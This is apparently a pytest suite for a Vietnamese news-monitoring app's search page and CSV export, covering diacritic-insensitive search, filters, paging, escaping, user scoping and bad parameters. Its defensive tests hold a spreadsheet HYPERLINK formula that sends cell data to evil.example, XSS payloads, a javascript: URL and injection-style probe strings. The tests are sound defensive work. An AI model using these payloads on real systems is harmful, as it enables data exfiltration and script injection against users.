"""The search page and its CSV export, as a user sees them: diacritic-insensitive words, phrases,
filters that narrow, paging that keeps the filters, a spreadsheet-safe CSV, crawled text shown as
text, a department user kept to their sources, and bad parameters answered without an error."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
from fastapi import Request
from fastapi.testclient import TestClient
from httpx import Response

from crawlers.base import ItemRecord
from monitor import accounts
from monitor.bootstrap import App
from monitor.storage import db, repo
from monitor.storage.search import SearchQuery
from monitor.web import pages_search
from monitor.web.app import create_web
from monitor.web.pages_search import CSV_CAP, MAX_PAGE, cell
from monitor.web.render import Page
from nlp.base import Analysis, Place
from tests.conftest import AppFactory, Database
from tests.webkit import PASSWORD, Clock, WebClient, sign_in, web_client

SOURCES = [
    {"id": "baonamdinh", "kind": "rss", "url": "https://baonamdinh.vn/rss", "name": "Báo Nam Định"},
    {"id": "vnexpress", "kind": "rss", "url": "https://vnexpress.net/rss", "name": "VnExpress"},
]
KEYWORD = {"analysis": {"analyser": "keyword"}}
# 2025-07-01 09:00 in Hanoi (UTC+7).
T0 = datetime(2025, 7, 1, 2, 0, tzinfo=UTC)
_IDS = re.compile(r'<article class="hit" data-item-id="(\d+)"')
_NEXT = re.compile(r'<a rel="next" id="page-next" href="([^"]+)"')
_CSV_LINK = re.compile(r'<a id="export-csv" href="([^"]+)"')


@pytest.fixture
def app(make_app: AppFactory) -> App:
    """An application with two configured sources (and the built-in manual one)."""
    return make_app(SOURCES, **KEYWORD)


@pytest.fixture
def web(app: App) -> WebClient:
    """A viewer signed in: reading and searching need no more."""
    return web_client(app, "lan", "viewer")


_counter = iter(range(1, 1_000_000))


def store(
    app: App,
    title: str,
    text: str = "",
    *,
    source: str = "baonamdinh",
    kind: str = "news",
    published: datetime | None = T0,
    relevant: bool = True,
    topic: str | None = "public_order",
    sentiment: str | None = "neutral",
    severity: str = "none",
    places: tuple[str, ...] = (),
    url: str = "",
) -> int:
    """One item stored with its analysis as the pipeline would; returns its id."""
    url = url or f"https://{source}.example.vn/tin-{next(_counter)}"
    found = Analysis(
        "test",
        relevant,
        0.9 if relevant else 0.1,
        severity=severity,
        places=[Place(name, "district", 0, len(name)) for name in places],
        topic=topic,
        sentiment=sentiment,
    )
    record = ItemRecord(url, url, title, text or title, kind, published_at=published)
    with db.transaction(app.sessions) as session:
        (item_id, _), *_ = repo.ingest(session, source, [record]).new
        repo.save_analyses(session, [(item_id, found)])
    return item_id


def text_of(html: str) -> str:
    """The page with the marks around matched words taken out, as a reader reads it."""
    return re.sub(r"</?mark>", "", html)


def ids(html: str) -> list[int]:
    """The item ids of the hits on a results page, in order."""
    return [int(found) for found in _IDS.findall(html)]


def csv_rows(response: Response) -> list[list[str]]:
    """The rows of a CSV download (header first), its BOM taken off."""
    assert response.status_code == 200, response.text[:300]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def unescape_href(href: str) -> str:
    """An href as the browser follows it (the template escapes & as &amp;)."""
    return href.replace("&amp;", "&")


# --- words, phrases, diacritics -----------------------------------------------------------------


def test_words_without_diacritics_find_the_accented_title(app: App, web: WebClient) -> None:
    wanted = store(app, "Mưa lớn gây ngập nhiều tuyến phố ở Nam Định", "Nước dâng cao.")
    store(app, "Hà Nội khai mạc lễ hội mùa hè", "Không liên quan.")
    response = web.get("/search", params={"q": "nam dinh"})
    assert response.status_code == 200
    assert ids(response.text) == [wanted]
    title = re.search(r'<h2><a href="/items/(\d+)">(.*?)</a></h2>', response.text)
    assert title and title.group(1) == str(wanted)
    assert text_of(title.group(2)) == "Mưa lớn gây ngập nhiều tuyến phố ở Nam Định"
    assert re.sub(r"</mark> <mark>", " ", title.group(2)).endswith("<mark>Nam Định</mark>")
    assert "1 kết quả" in response.text
    assert f'href="/items/{wanted}"' in response.text
    assert 'value="nam dinh"' in response.text  # the form shows what was asked


def test_a_quoted_phrase_needs_its_words_together(app: App, web: WebClient) -> None:
    together = store(app, "Cầu Tân Phong xuống cấp nghiêm trọng")
    store(app, "Ông Tân cho biết phong cách mới đáp ứng yêu cầu", "Cầu nối doanh nghiệp.")
    loose = web.get("/search", params={"q": "cầu tân phong"})
    assert len(ids(loose.text)) == 2
    phrase = web.get("/search", params={"q": '"cau tan phong"'})
    assert ids(phrase.text) == [together]


def test_matched_words_are_marked_in_the_snippet(app: App, web: WebClient) -> None:
    store(app, "Tin tức", "Sáng nay, đê biển Hải Hậu bị sạt lở một đoạn dài.")
    page = web.get("/search", params={"q": "de bien"}).text
    snippet = re.search(r'<p class="snippet">(.*?)</p>', page, re.S)
    assert snippet, page
    assert re.findall(r"<mark>(.*?)</mark>", snippet.group(1)) in (["đê", "biển"], ["đê biển"])


def test_the_bare_page_shows_the_form_and_an_empty_search_everything(
    app: App, web: WebClient
) -> None:
    older = store(app, "Tin cũ", published=T0)
    newer = store(app, "Tin mới", published=T0 + timedelta(hours=1))
    page = web.get("/search").text
    assert '<form method="get" action="/search" id="search-form"' in page
    assert 'name="q" id="q"' in page
    assert 'class="results"' not in page and "export-csv" not in page
    assert ids(web.get("/search?q=").text) == [newer, older]


def test_nothing_found_says_so(app: App, web: WebClient) -> None:
    store(app, "Nam Định đón khách du lịch")
    page = web.get("/search", params={"q": "khongcotu"}).text
    assert ids(page) == [] and 'id="no-results"' in page and "0 kết quả" in page


# --- filters ------------------------------------------------------------------------------------


@pytest.fixture
def corpus(app: App) -> dict[str, int]:
    """Items that differ in one thing each from the plain one, all mentioning Nam Định."""
    local = datetime(2025, 7, 1, 23, 30, tzinfo=UTC) - timedelta(hours=7)  # 23:30 on 1 July
    return {
        "plain": store(app, "Nam Định họp báo thường kỳ", published=T0 - timedelta(days=10)),
        "critical": store(app, "Nam Định: cháy lớn ở chợ Rồng", severity="critical"),
        "social": store(app, "Bài đăng về Nam Định", kind="social", sentiment="negative"),
        "other_source": store(app, "VnExpress viết về Nam Định", source="vnexpress"),
        "land": store(app, "Nam Định giải phóng mặt bằng", topic="land_planning"),
        "irrelevant": store(app, "Nam Định FC thắng đậm", relevant=False, topic=None),
        "hai_hau": store(app, "Đê ở Nam Định được gia cố", places=("Huyện Hải Hậu",)),
        "late_on_the_1st": store(app, "Nam Định đêm muộn", published=local),
        "early_on_the_2nd": store(app, "Nam Định rạng sáng", published=local + timedelta(hours=1)),
    }


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"severity": "critical"}, {"critical"}),
        ({"kind": "social"}, {"social"}),
        ({"sentiment": "negative"}, {"social"}),
        ({"source": "vnexpress"}, {"other_source"}),
        ({"topic": "land_planning"}, {"land"}),
        ({"relevant": "no"}, {"irrelevant"}),
        ({"place": "hai hau"}, {"hai_hau"}),
        # Local days, the end day included: 23:30 on 1 July is in, 00:30 on 2 July is not.
        ({"since": "2025-07-01", "until": "2025-07-01"}, "all but plain and early_on_the_2nd"),
        ({"since": "2025-07-02"}, {"early_on_the_2nd"}),
        ({"until": "2025-06-30"}, {"plain"}),
    ],
)
def test_a_filter_narrows_the_results(
    web: WebClient, corpus: dict[str, int], params: dict[str, str], expected: object
) -> None:
    everything = ids(web.get("/search", params={"q": "nam dinh"}).text)
    assert sorted(everything) == sorted(corpus.values())
    if isinstance(expected, str):
        expected = set(corpus) - {"plain", "early_on_the_2nd"}
    page = web.get("/search", params={"q": "nam dinh", **params})
    assert page.status_code == 200
    assert {name for name, item in corpus.items() if item in ids(page.text)} == expected
    for name, value in params.items():  # the form shows the filter it applied
        shown = "Huyện Hải Hậu" if name == "place" else value
        assert f'value="{shown}"' in page.text, name


def test_a_place_typed_loosely_means_its_official_name(app: App, web: WebClient) -> None:
    district = store(app, "Tin huyện", places=("Huyện Hải Hậu",))
    city = store(app, "Tin thành phố", places=("Thành phố Nam Định",))
    province = store(app, "Tin tỉnh", places=("Tỉnh Nam Định",))
    for typed in ("hai hau", "Hải Hậu", "HUYEN HAI HAU", "Huyện Hải Hậu"):
        page = web.get("/search", params={"place": typed}).text
        assert ids(page) == [district], typed
        assert 'value="Huyện Hải Hậu"' in page
    # A short name several units share: the first is searched, the others are offered.
    page = web.get("/search", params={"place": "nam dinh"}).text
    assert ids(page) == [province]
    offered = re.search(r'<p class="muted" id="other-places">(.*?)</p>', page, re.S)
    assert offered, page
    link = re.search(r'<a href="([^"]+)">Thành phố Nam Định</a>', offered.group(1))
    assert link, offered.group(1)
    assert ids(web.get(unescape_href(link.group(1))).text) == [city]


def test_filters_work_without_search_text_and_newest_come_first(
    web: WebClient, corpus: dict[str, int]
) -> None:
    page = web.get("/search", params={"relevant": "yes"}).text
    found = ids(page)
    assert corpus["irrelevant"] not in found and len(found) == len(corpus) - 1
    assert found[0] == corpus["early_on_the_2nd"] and found[-1] == corpus["plain"]
    oldest = ids(web.get("/search", params={"relevant": "yes", "sort": "oldest"}).text)
    assert oldest == list(reversed(found))


def test_severity_sort_puts_the_critical_item_first(web: WebClient, corpus: dict[str, int]) -> None:
    assert (
        ids(web.get("/search", params={"q": "nam dinh", "sort": "severity"}).text)[0]
        == (corpus["critical"])
    )


# --- paging -------------------------------------------------------------------------------------


def test_pagination_keeps_the_filters(app: App, web: WebClient) -> None:
    for n in range(57):
        store(app, f"Nam Định tin số {n}", published=T0 + timedelta(minutes=n))
    store(app, "Nam Định trên mạng xã hội", kind="social")
    first = web.get("/search", params={"q": "nam dinh", "kind": "news", "sort": "oldest"})
    assert len(ids(first.text)) == 50
    assert "57 kết quả" in first.text
    link = _NEXT.search(first.text)
    assert link, first.text
    target = unescape_href(link.group(1))
    query = parse_qs(urlsplit(target).query)
    assert query == {"q": ["nam dinh"], "kind": ["news"], "sort": ["oldest"], "page": ["2"]}
    second = web.get(target)
    assert len(ids(second.text)) == 7
    assert not set(ids(first.text)) & set(ids(second.text))
    assert "Nam Định tin số 56" in text_of(second.text)
    assert "mạng xã hội" not in text_of(second.text)
    assert 'rel="prev"' in second.text and _NEXT.search(second.text) is None


def test_a_page_past_the_end_shows_the_last_page(app: App, web: WebClient) -> None:
    wanted = store(app, "Nam Định duy nhất")
    page = web.get("/search", params={"q": "nam dinh", "page": "40"})
    assert page.status_code == 200
    assert ids(page.text) == [wanted]


# --- CSV export ---------------------------------------------------------------------------------


def test_csv_export_has_a_bom_a_header_and_the_results(app: App, web: WebClient) -> None:
    clock_day = datetime.now(UTC).astimezone(app.settings.tz).date().isoformat()
    wanted = store(
        app,
        "Nam Định: ngập sâu sau mưa",
        severity="alert",
        topic="environment_disaster",
        places=("Huyện Hải Hậu", "Huyện Giao Thủy"),
    )
    store(app, "Nam Định trên mạng", kind="social")
    store(app, "Hà Nội nắng nóng")
    page = web.get("/search", params={"q": "nam dinh", "kind": "news"}).text
    link = _CSV_LINK.search(page)
    assert link, page
    response = web.get(unescape_href(link.group(1)))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;") and f"{clock_day}.csv" in disposition
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:5] == ["Mã", "Thời gian đăng", "Nguồn", "Loại", "Tiêu đề"]
    assert len(rows[0]) == 12
    assert len(rows) == 2
    row = rows[1]
    assert row[0] == str(wanted)
    assert row[1] == "2025-07-01 09:00"  # local time
    assert row[2] == "Báo Nam Định"
    assert row[4] == "Nam Định: ngập sâu sau mưa"
    assert row[5].startswith("https://baonamdinh.example.vn/")
    assert row[7] == app.settings.topics["environment_disaster"]
    assert "Huyện Hải Hậu" in row[10] and "Huyện Giao Thủy" in row[10]
    assert row[11].endswith(f"/items/{wanted}")


def test_csv_header_follows_the_page_language(app: App, web: WebClient) -> None:
    store(app, "Nam Định")
    rows = list(csv.reader(io.StringIO(web.get("/search.csv?q=nam&lang=en").text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["ID", "Published", "Source"]


def test_csv_neutralises_formulas(app: App, web: WebClient) -> None:
    store(app, '=HYPERLINK("http://evil.example/?x="&A1,"Nam Định")', "Nam Định")
    store(app, "@SUM(1+1) Nam Định")
    store(app, "-2+3 Nam Định")
    store(app, "Nam Định =1+1 giữa câu")
    text = web.get("/search.csv", params={"q": "nam dinh", "sort": "oldest"}).text
    titles = [row[4] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))][1:]
    assert titles == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Nam Định")',
        "'@SUM(1+1) Nam Định",
        "'-2+3 Nam Định",
        "Nam Định =1+1 giữa câu",
    ]


def test_csv_streams_in_chunks_up_to_the_cap(
    app: App, web: WebClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = [store(app, f"Nam Định tin {n}", published=T0 + timedelta(minutes=n)) for n in range(30)]
    monkeypatch.setattr(pages_search, "CSV_CHUNK", 7)  # the read transaction ends mid-batch
    rows = csv_rows(web.get("/search.csv", params={"q": "nam dinh", "sort": "oldest"}))
    assert [int(row[0]) for row in rows[1:]] == made
    monkeypatch.setattr(pages_search, "CSV_CAP", 10)
    rows = csv_rows(web.get("/search.csv", params={"q": "nam dinh"}))
    assert [int(row[0]) for row in rows[1:]] == made[::-1][:10]


def test_a_slow_download_does_not_keep_the_crawlers_from_storing(
    app: App, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = [store(app, f"Nam Định tin {n}", published=T0 + timedelta(minutes=n)) for n in range(12)]
    monkeypatch.setattr(pages_search, "CSV_CHUNK", 5)
    scope = {"type": "http", "app": create_web(app, clock=Clock()), "headers": [], "state": {}}
    request = Request({**scope, "method": "GET", "path": "/search.csv", "query_string": b""})
    query = SearchQuery(text="nam dinh", sort="oldest")
    chunks = pages_search.csv_lines(Page(request), query, "http://monitor.test")
    sent = [next(chunks), next(chunks)]  # the header, then the first five rows: a client reading
    if database.backend == "sqlite":  # every SQLite transaction here takes the write lock
        writer = sqlite3.connect(database.url.removeprefix("sqlite:///"), timeout=0.2)
        writer.execute("BEGIN IMMEDIATE")  # "database is locked" while the export holds it
        writer.execute("ROLLBACK")
        writer.close()
    late = store(app, "Nam Định tin đến muộn", published=T0 - timedelta(days=1))
    sent += list(chunks)
    rows = list(csv.reader(io.StringIO(b"".join(sent).decode("utf-8-sig"))))
    assert [int(row[0]) for row in rows[1:]] == made and late not in made


def test_csv_of_a_search_by_relevance_has_every_match_newest_first(
    app: App, web: WebClient
) -> None:
    older = store(app, "Nam Định, Nam Định, Nam Định", "Nam Định " * 20, published=T0)
    newer = store(app, "Tin ngắn", "Một dòng về nam định.", published=T0 + timedelta(days=1))
    page = web.get("/search", params={"q": "nam dinh", "sort": "relevance"}).text
    assert ids(page) == [older, newer]  # the page ranks
    link = _CSV_LINK.search(page)
    assert link
    rows = csv_rows(web.get(unescape_href(link.group(1))))
    assert [int(row[0]) for row in rows[1:]] == [newer, older]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1", "'＝1"),
        ("a=b", "a=b"),
        (12, "12"),
        (None, ""),
    ],
)
def test_cell_guard(value: object, expected: str) -> None:
    assert cell(value) == expected


def test_the_page_names_the_csv_cap(app: App, web: WebClient) -> None:
    store(app, "Nam Định")
    page = web.get("/search", params={"q": "nam dinh"}).text
    assert f"{CSV_CAP:,}".replace(",", ".") in page


# --- crawled text is text -----------------------------------------------------------------------


def test_markup_in_a_title_or_text_is_shown_escaped(app: App, web: WebClient) -> None:
    store(
        app,
        "<script>alert('tiêu đề')</script> Nam Định",
        "Nam Định <img src=x onerror=alert(1)> <script>alert('nội dung')</script> kết thúc",
        source="vnexpress",
    )
    page = web.get("/search", params={"q": "nam dinh alert"}).text
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(&#39;tiêu đề&#39;)&lt;/script&gt; Nam Định" in text_of(page)
    snippet = re.search(r'<p class="snippet">(.*?)</p>', page, re.S)
    assert snippet, page
    assert "&lt;" in snippet.group(1) and "<mark>" in snippet.group(1)
    assert re.sub(r"</?mark>", "", snippet.group(1)).count("<") == 0


def test_an_outside_link_opens_safely_and_a_script_url_is_no_link(app: App, web: WebClient) -> None:
    store(app, "Nam Định có link", url="https://baonamdinh.vn/bai-1.html")
    store(app, "Nam Định không link", url="javascript:alert(1)")
    page = web.get("/search", params={"q": "nam dinh"}).text
    assert (
        '<a href="https://baonamdinh.vn/bai-1.html" target="_blank" rel="noopener noreferrer">'
        in page
    )
    assert "javascript:" not in page


# --- scope --------------------------------------------------------------------------------------


def scoped_client(app: App, name: str, sources: tuple[str, ...]) -> TestClient:
    """A client signed in as a viewer who sees only ``sources``."""
    accounts.add_user(app.sessions, name, "viewer", PASSWORD, sources=sources)
    client = TestClient(create_web(app, clock=Clock()), follow_redirects=False)
    assert sign_in(client, name).status_code == 200
    return client


def test_a_scoped_user_sees_only_their_sources(app: App) -> None:
    mine = store(app, "Nam Định trên báo tỉnh")
    theirs = store(app, "Nam Định trên VnExpress", source="vnexpress")
    client = scoped_client(app, "phong-vh", ("baonamdinh",))
    page = client.get("/search", params={"q": "nam dinh"}).text
    assert ids(page) == [mine]
    assert 'value="baonamdinh"' in page and 'value="vnexpress"' not in page
    asked = client.get("/search", params={"q": "nam dinh", "source": "vnexpress"})
    assert asked.status_code == 200 and theirs not in ids(asked.text)
    assert 'class="flash error"' in asked.text
    exported = client.get("/search.csv", params={"q": "nam dinh"}).text
    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
    assert [row[0] for row in rows[1:]] == [str(mine)]


# --- bad parameters -----------------------------------------------------------------------------


# Each a query string a hand-edited URL, an old bookmark or a probe could send.
BAD_QUERIES = (
    "since=2025-13-45",
    "until=yesterday",
    "since=0001-01-01&until=9999-12-31",
    "since=2025-07-09&until=2025-07-01",
    "sort=drop+table",
    "sort=relevance",
    "page=-1",
    "page=0",
    "page=abc",
    "page=99999999999999999999999999",
    "q=" + "nam+dinh+" * 1200,
    "q=%22unbalanced",
    "q=***",
    "q=-",
    "q=-nam",
    "q=%22%22",
    "q=nam%00dinh",
    "q=%F0%9F%98%80",
    "q=a*b*c",
    "q=OR+AND+NOT+NEAR",
    "q=nam)(dinh",
    "q=%5C%27",
    "topic=%3Cscript%3E",
    "relevant=maybe",
    "kind=video",
    "severity=extreme",
    "place=" + "x" * 5000,
    "place=a%00b",
    "q=nam&q=dinh",
)


def test_bad_parameters_never_fail(app: App, web: WebClient) -> None:
    store(app, "Nam Định bình thường")
    for query in BAD_QUERIES:  # one app for all: each case is a request, not a database
        for path in ("/search?", "/search.csv?"):
            response = web.get(path + query)
            assert response.status_code == 200, (path, query, response.text[:300])
            assert "<script>" not in response.text, (path, query)


def test_bad_values_are_named_and_the_rest_still_applies(app: App, web: WebClient) -> None:
    wanted = store(app, "Nam Định bình thường", kind="social")
    store(app, "Nam Định trên báo")
    page = web.get(
        "/search", params={"q": "nam dinh", "since": "2025-13-45", "kind": "social", "page": "-3"}
    ).text
    assert "Từ ngày: ngày không hợp lệ" in page
    assert ids(page) == [wanted]


def test_a_very_long_query_is_cut_with_a_message(app: App, web: WebClient) -> None:
    store(app, "Nam Định")
    page = web.get("/search", params={"q": "nam dinh " * 2000}).text
    assert "dài quá" in page


def test_a_page_beyond_the_limit_is_clamped_with_a_message(app: App, web: WebClient) -> None:
    wanted = store(app, "Nam Định")
    page = web.get("/search", params={"q": "nam dinh", "page": str(MAX_PAGE + 1)}).text
    assert str(MAX_PAGE) in page and ids(page) == [wanted]


def test_the_page_speaks_english_when_asked(app: App, web: WebClient) -> None:
    store(app, "Nam Định")
    page = web.get("/search", params={"q": "nam dinh", "lang": "en"}).text
    assert "1 result" in page and "Download CSV" in page
